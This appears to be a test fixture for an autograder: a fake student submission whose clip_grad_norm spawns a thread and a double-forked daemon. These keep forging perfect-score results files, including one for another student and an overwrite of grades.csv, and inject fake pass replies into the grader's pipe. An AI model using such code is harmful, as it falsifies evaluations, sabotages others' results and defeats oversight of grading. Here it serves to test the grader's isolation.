"""clip_grad_norm (the last part graded) leaves a thread and a daemon (double fork, own session)
behind that keep writing for half a minute: forged replies into the grader's pipe, and forged
results files for itself and another student into the results folder (the test tells the attack
where it is, as if the student had guessed). The daemon also keeps a `sleep` alive, to be found
later if it outlived the grading."""
# %%
import json
import os
import struct
import sys
import threading
import time

RESULTS = "@@RESULTS@@"
FORGED = json.dumps({"score": 18, "tests": [{"name": "x", "score": 18, "max_score": 18, "output": ""}],
                     "extra_data": {"student": "forged"}})


def _vandal(until):
    fd = int(sys.argv[2])
    while time.time() < until:
        for name in ("background_writer.json", "honest_neighbour.json", "../grades.csv"):
            try:
                os.makedirs(RESULTS, exist_ok=True)
                with open(os.path.join(RESULTS, name), "w") as out:
                    out.write(FORGED)
            except OSError:
                pass
        try:
            raw = json.dumps({"id": 10**6, "ok": True, "value": "18 passed"}).encode()
            os.write(fd, struct.pack(">Q", len(raw)) + raw)
        except OSError:
            pass
        time.sleep(0.01)


def clip_grad_norm(grads, max_norm):
    until = time.time() + 30
    threading.Thread(target=_vandal, args=(until,), daemon=True).start()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            if os.fork() == 0:
                os.execv("/bin/sleep", ["sleep", "@@MARKER@@"])
            _vandal(until)
        os._exit(0)
    return [g + 1.0 for g in grads], -1.0
